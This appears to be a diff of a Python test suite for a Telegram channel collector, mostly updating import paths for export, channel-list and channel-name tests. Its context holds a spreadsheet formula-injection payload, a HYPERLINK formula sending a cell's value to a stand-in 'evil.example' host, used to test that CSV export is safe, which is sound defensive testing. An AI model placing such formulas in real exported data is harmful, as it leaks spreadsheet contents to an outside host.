@@ -149,7 +149,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 def _archive_with_text(tmp: Path, text: str, title: str = "Plain Title") -> Path:
-    from collector.sources import store
+    from collector.archive import upsert as store
 
     path = tmp / "archive.duckdb"
     with Archive(path) as archive, store.transaction(archive):
@@ -163,7 +163,7 @@ def _archive_with_text(tmp: Path, text: str, title: str = "Plain Title") -> Path
 
 @case("csv-formula-in-text")
 def _csv_formula(tmp: Path) -> None:
-    from collector.export import ensure_pseudonym_key, export_archive
+    from collector.archive.export import ensure_pseudonym_key, export_archive
 
     path = _archive_with_text(tmp, FORMULA)
     ensure_pseudonym_key(path, wait=0)
@@ -187,7 +187,7 @@ def _csv_formula(tmp: Path) -> None:
 
 
 def _network_archive(tmp: Path, title: str) -> Path:
-    from collector.sources import store
+    from collector.archive import upsert as store
 
     path = tmp / "archive.duckdb"
     rows = [{"channel_id": 2, "message_id": m, "posted_at": NOW, "text": "x", "fwd_channel_id": 1,
@@ -268,7 +268,7 @@ def _import_in_child(tmp: Path, export: Path) -> tuple[int, str, int]:
     import sys
 
     # VmHWM, not ru_maxrss: ru_maxrss carries the forking parent's peak across exec
-    code = ("import re, sys\nfrom collector.cli import app\ntry:\n    app(prog_name='tgspread')\nfinally:\n"
+    code = ("import re, sys\nfrom collector.cli.app import app\ntry:\n    app(prog_name='tgspread')\nfinally:\n"
             "    kb = re.search(r'VmHWM:\\s*(\\d+)', open('/proc/self/status').read()).group(1)\n"
             "    print('PEAK', int(kb) // 1024, file=sys.stderr)")
     proc = subprocess.run([sys.executable, "-c", code, "import", str(export), "--archive", str(tmp / "a.duckdb")],
@@ -324,7 +324,7 @@ class _Counting:
 @case("channels-add-20000-names")
 def _many_names(tmp: Path) -> None:
     """The statements ``channels add`` runs do not grow with the names (2,000 took 64 s, 20,000 never ended)."""
-    from collector.channel_set import add_channels, list_channels
+    from collector.scheduling.channel_set import add_channels, list_channels
 
     counts = {}
     with Archive(tmp / "archive.duckdb") as archive:
@@ -366,7 +366,7 @@ def test_json_of_the_cases_is_plain() -> None:
 
 def test_one_channel_written_five_ways_is_collected_once(tmp_path: Path) -> None:
     """Item 28: ``durov``, ``@Durov``, links and ``tg://`` name one channel: one pass over it, one row."""
-    from collector.channel_ref import distinct_channels
+    from collector.parse.channel_ref import distinct_channels
 
     five = ["osint_demo", "@OSINT_demo", "https://t.me/osint_demo", "t.me/s/osint_demo/110",
             "tg://resolve?domain=osint_demo"]
@@ -385,7 +385,7 @@ def test_one_channel_written_five_ways_is_collected_once(tmp_path: Path) -> None
 
 
 def test_one_channel_written_five_ways_is_collected_once_through_the_api(tmp_path: Path) -> None:
-    from collector.simulated import generate_world
+    from collector._simulated import generate_world
     from tests.simworld import run_pass
 
     world = generate_world(3, channels=2, days=1)
